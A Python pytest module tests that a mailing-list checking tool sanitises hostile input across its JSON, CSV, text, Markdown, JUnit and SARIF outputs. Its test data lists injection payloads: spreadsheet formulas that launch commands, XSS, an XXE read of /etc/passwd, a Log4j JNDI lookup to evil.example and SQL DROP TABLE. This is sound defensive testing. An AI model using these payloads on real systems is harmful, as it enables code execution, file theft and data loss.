"""The formats of a check: one answer, the same figures everywhere, and nothing in them that acts."""

from __future__ import annotations

import csv
import json
import re
from xml.etree import ElementTree as ET

import jsonschema
import pytest

from hygiene.cli import exit_code
from hygiene.resources import resource
from tests.gate.making import TEMPLATE, newcomers, person, team, write

ATTACKS = (
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    '"><script>alert(1)</script>',
    "![x](javascript:alert(1)) <b>**bold**</b> | `tick`",
    "]]><!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    "${jndi:ldap://evil.example/a} {{7*7}} {% raw %}",
    "\u202egnp.exe \u200b\ufeff\x07\x1b[31mred",
    "'; DROP TABLE contacts; --",
    "a\nb\r\n- [ ] c",
)
"""In every text field of the list and of the source."""
TEXTS = (
    "first_name",
    "company",
    "source",
    "import_batch",
    "language",
    "legal_basis",
    "contact_id",
    "hard_bounce_reason",
)


@pytest.fixture(scope="module")
def answers(tmp_path_factory):
    """Run one check with hostile texts in every format; return the outputs and the folder of the lists."""
    folder = tmp_path_factory.mktemp("attack")
    hostile = [
        person(800 + place, **{**dict.fromkeys(TEXTS, attack), "email": f"x{place}@y{place}.fr"})
        for place, attack in enumerate(ATTACKS)
    ]
    source = team(folder / "source", extra=[*hostile, person(700, opted_out="true")])
    suppressed = [{"email": f"z{place}@s.fr", "reason": attack} for place, attack in enumerate(ATTACKS)]
    write(source / "suppressions.csv", suppressed)
    rows = [
        *newcomers(20),
        *hostile,
        *(person(850 + place, email=row["email"]) for place, row in enumerate(suppressed)),
        *(person(870 + place, email=f"{attack}@bad") for place, attack in enumerate(ATTACKS)),
        person(700),
    ]
    listed = write(folder / "leads.csv", rows, dict.fromkeys(name for row in rows for name in row))
    (folder / "mail.txt").write_text(TEMPLATE.replace("A question", ATTACKS[5]), encoding="utf-8")
    return source, listed, folder / "mail.txt", folder


def run(answers, capfd, form: str, *more: str) -> tuple[int, str]:
    source, listed, mail, folder = answers
    capfd.readouterr()
    arguments = ["check", str(source), "--list", str(listed), "--template", str(mail), "-o", str(folder / "out")]
    code = exit_code([*arguments, "--format", form, *more])
    return code, capfd.readouterr().out


def test_json_follows_its_schema_and_adds_up(answers, capfd):
    code, shown = run(answers, capfd, "json")
    told = json.loads(shown)
    schema = json.loads((resource("models") / "schemas" / "check.schema.json").read_text(encoding="utf-8"))
    jsonschema.Draft202012Validator(schema).validate(told)
    assert told["exit_code"] == code == 10
    assert told["verdict"] == "TRIM"
    assert told["list"]["kept"] + told["list"]["dropped"] == told["list"]["rows"]
    assert len(told["dropped"]) == told["list"]["dropped"]
    assert sum(one["rows"] for one in told["findings"] if one["effect"] == "trim") == told["list"]["dropped"]
    files = {name: one["rows"] for name, one in told["files"].items()}
    assert files["dropped.csv"] == told["list"]["dropped"]
    assert files["trimmed.csv"] + files.get("quarantine.csv", 0) == told["list"]["kept"]


def test_the_lists_hold_as_many_rows_as_are_told_and_no_formula(answers, capfd):
    _, shown = run(answers, capfd, "json")
    files = json.loads(shown)["files"]
    for name, told in files.items():
        with open(told["path"], encoding="utf-8-sig", newline="") as file:  # noqa: PTH123 — as a script would
            rows = list(csv.reader(file))
        assert len(rows) - 1 == told["rows"], name
        for cell in (cell for row in rows for cell in row):
            assert not re.match(r"[=\t\r]|[+@-](?=.*[(|=])", cell), (name, cell)
    with open(files["trimmed.csv"]["path"], encoding="utf-8", newline="") as file:  # noqa: PTH123
        kept = {row["email"] for row in csv.DictReader(file)}
    assert kept == {row["email"] for row in newcomers(20)} | (kept - {row["email"] for row in newcomers(20)})
    assert "p700@company700.fr" not in kept
    assert not kept & {f"z{place}@s.fr" for place in range(len(ATTACKS))}


@pytest.mark.parametrize("lang", ["en", "fr"])
def test_text_holds_no_control_character(answers, capfd, lang):
    code, shown = run(answers, capfd, "text", "--lang", lang)
    assert code == 10
    assert "TRIM" in shown
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ufeff]", shown)


def test_markdown_holds_no_markup_of_others(answers, capfd):
    _, shown = run(answers, capfd, "md")
    bare = re.sub(r"\\.", "", shown)
    assert "<script" not in bare
    assert "](" not in bare
    assert "<b>" not in bare
    assert not re.search(r"^- \[ \] c", shown, re.MULTILINE)


def test_junit_is_xml_with_one_case_a_check(answers, capfd):
    code, shown = run(answers, capfd, "junit")
    root = ET.fromstring(shown)  # noqa: S314 — our own output
    suite = root.find("testsuite")
    assert suite is not None
    assert int(suite.get("tests", 0)) == len(suite.findall("testcase")) > 15
    assert int(suite.get("failures", 0)) == len(suite.findall("testcase/failure")) > 0
    assert suite.find("properties/property[@name='verdict']").get("value") == "TRIM"
    assert code == 10


def test_sarif_points_at_the_lines(answers, capfd):
    _, shown = run(answers, capfd, "sarif")
    (told,) = json.loads(shown)["runs"]
    rules = {rule["id"] for rule in told["tool"]["driver"]["rules"]}
    assert {result["ruleId"] for result in told["results"]} == rules
    opted_out = next(result for result in told["results"] if result["ruleId"] == "rows.opt_out")
    assert opted_out["level"] == "warning"
    assert opted_out["kind"] == "fail"
    lines = [place["physicalLocation"]["region"]["startLine"] for place in opted_out["locations"]]
    assert len(lines) == opted_out["occurrenceCount"] == 1 + len(ATTACKS)
    assert all(result["level"] == "none" for result in told["results"] if result["kind"] != "fail")


def test_equal_checks_give_equal_bytes(answers, capfd):
    assert run(answers, capfd, "json") == run(answers, capfd, "json")


@pytest.mark.parametrize("mode", ["suggest", "observe"])
def test_a_mode_that_stops_nothing_exits_with_0_and_says_so(answers, capfd, mode):
    code, shown = run(answers, capfd, "text", "--mode", mode)
    assert code == 0
    assert "TRIM" in shown
    assert f"Mode {mode}" in shown
